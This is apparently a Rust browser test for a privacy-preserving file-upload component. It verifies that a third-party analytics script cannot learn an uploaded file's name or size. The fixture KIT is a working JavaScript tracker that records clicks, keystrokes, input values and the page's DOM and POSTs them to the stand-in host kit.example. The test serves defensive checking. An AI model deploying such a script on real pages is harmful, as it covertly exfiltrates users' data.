//! What a file is called, what it is and how long it is: nothing of it leaves the page unsealed.

use anyhow::{Result, bail};
use mixus_privacy_tests::{Flow, Outcome, Page, Reply, done};
use serde_json::json;
use thirtyfour::Key;

use super::tus::Tus;
use super::{TREES, disk};

/// Kits that record what happens on a page: whatever they see of any event, of the page's tree and its texts, they send away.
const KIT: &str = "const seen = (it) => [it.outerHTML, it.innerText, it.ariaLabel, it.value, it.title, it.shadowRoot?.innerHTML].join();\n\
    const send = (what) => fetch('http://kit.example/seen', { method: 'POST', mode: 'no-cors', body: what });\n\
    let all = '';\n\
    for (const name of ['click', 'change', 'input', 'focusin', 'keydown', 'drop', 'added', 'uploaded', 'failed'])\n\
    addEventListener(name, (event) => (all += name + event.composedPath().filter((it) => it.outerHTML).map(seen).join() + JSON.stringify(event.detail)), true);\n\
    new MutationObserver((news) => (all += news.map((it) => seen(it.target)).join())).observe(document, { subtree: true, childList: true, attributes: true });\n\
    window.report = () => send(all + document.documentElement.outerHTML + document.body.innerText + [...document.querySelectorAll('*')].map(seen).join());\n\
    window.kit = true;\n";

/// Under every consent: a kit that was allowed sees no more of it than a site's server does, and that is how long it is when sealed.
pub(crate) async fn files_stay_unseen(flow: Flow) -> Result<Outcome> {
    const NAME: &str = "unheard-of-4711.xyz";
    let tus = Tus::start().await?;
    flow.site.reply("/kit.js", Reply::script(KIT));
    flow.site.reply("/trees.js", Reply::script(TREES));
    flow.site.reply("kit.example/seen", Reply::status(204));
    Page::new()
        .first("<script src=\"/trees.js\"></script>")
        .body("<script type=\"text/plain\" data-category=\"analytics\" data-src=\"/kit.js\"></script><mixus-files></mixus-files>")
        .before(&format!(
            "import('/pkg/files.js').then(({{ define }}) => {{\n\
             const place = Object.assign(document.querySelector('mixus-files'), {{ at: '{}', privacy, to: [{{ id: new Uint8Array(16), wrapper: new Uint8Array(32) }}] }});\n\
             define();\n\
             window.one = (selector) => trees.get(place).querySelector(selector);\n\
             place.addEventListener('uploaded', ({{ detail }}) => (window.uploaded = detail));\n\
             }});",
            tus.at()
        ))
        .put(&flow.site, "/");
    let browser = flow.browser().await?;
    browser.open(&flow.site.url("/")).await?;
    browser.accept().await?;
    browser.wait("window.kit").await?;
    let closed: bool = browser.get("document.querySelector('mixus-files').shadowRoot === null").await?;
    assert!(closed, "the page sees into the element");
    let folder = disk(&[(NAME, 47_114)])?;
    let input = browser.element("one('input[type=file]')").await?;
    input.send_keys(folder.path().join(NAME).display().to_string()).await?;
    browser.wait("one('[data-state=done]')").await?;
    browser.run("one('.row .icon:last-child').focus()").await?;
    browser.wait("one('[role=status]').textContent.includes('unheard-of')").await?;
    browser.press(Key::Enter).await?;
    browser.wait("!one('.row')").await?;
    // The site itself is told.
    assert_eq!(
        browser.get::<serde_json::Value>("({ ...uploaded, url: '' })").await?,
        json!({"name": NAME, "size": 47_114, "url": ""})
    );
    browser.run("report()").await?;
    let seen = flow.site.wait("kit.example/seen").await?;
    assert!(
        seen.body.contains("mixus-files") && seen.body.contains("click"),
        "the kit saw nothing"
    );

    let words = [NAME, "unheard", "4711", "xyz", "47114", "47,114", "47 kB", "octet-stream;"];
    for it in flow.site.requests() {
        let sent = format!("{} {} {} {}", it.method, it.host, it.path, it.body);
        if let Some(word) = words.iter().find(|word| sent.contains(**word)) {
            bail!("{word} in {} {}{}", it.method, it.host, it.path);
        }
    }
    let asked = tus.asked();
    assert!(asked.iter().any(|it| it.method == "PATCH" && it.body.len() > 47_114));
    for it in asked {
        let body = String::from_utf8_lossy(&it.body);
        // Of bytes that are like chance, short words may be made.
        if let Some(word) = words
            .iter()
            .find(|word| it.head.contains(**word) || (word.len() > 6 && body.contains(**word)))
        {
            bail!("{word} in {}", it.head);
        }
    }
    done()
}
